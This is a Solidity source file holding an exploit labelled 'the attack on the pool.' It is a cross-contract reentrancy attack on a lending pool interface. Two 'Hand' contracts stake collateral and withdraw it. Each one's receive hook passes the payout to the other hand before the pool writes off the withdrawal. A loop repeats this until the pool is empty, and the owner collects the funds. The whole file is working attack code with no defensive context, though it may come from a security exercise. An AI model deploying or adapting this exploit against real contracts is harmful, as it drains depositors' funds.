// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

interface ILendingPool {
    function addCollateral() external payable;
    function removeCollateral(uint256 amount) external;
    function moveCollateral(address to, uint256 amount) external;
}

/// @dev One of the two accounts between which the collateral is passed on while it is being paid out.
contract Hand {
    address private immutable _raider = msg.sender;
    ILendingPool private immutable _pool;
    address private _other;

    constructor(ILendingPool pool) {
        _pool = pool;
    }

    receive() external payable {
        if (msg.sender == address(_pool)) _pool.moveCollateral(_other, msg.value);
    }

    function stake() external payable {
        _pool.addCollateral{value: msg.value}();
    }

    function take(uint256 amount, address other) external {
        _other = other;
        _pool.removeCollateral(amount);
        (bool paid,) = _raider.call{value: address(this).balance}("");
        require(paid);
    }
}

/// @title The attack on the pool.
/// @dev Paid out before it is written off, the collateral moves to the other hand, which has it paid out again, until the pool is empty.
contract PoolRaider {
    address private immutable _owner = msg.sender;
    ILendingPool private immutable _pool;

    constructor(ILendingPool pool) {
        _pool = pool;
    }

    receive() external payable {}

    function strike() external payable {
        require(msg.sender == _owner);
        Hand[2] memory hands = [new Hand(_pool), new Hand(_pool)];
        hands[0].stake{value: msg.value}();
        for (uint256 i = 0; address(_pool).balance > 0; ++i) {
            uint256 amount = msg.value < address(_pool).balance ? msg.value : address(_pool).balance;
            hands[i % 2].take(amount, address(hands[(i + 1) % 2]));
        }
        (bool paid,) = _owner.call{value: address(this).balance}("");
        require(paid);
    }
}
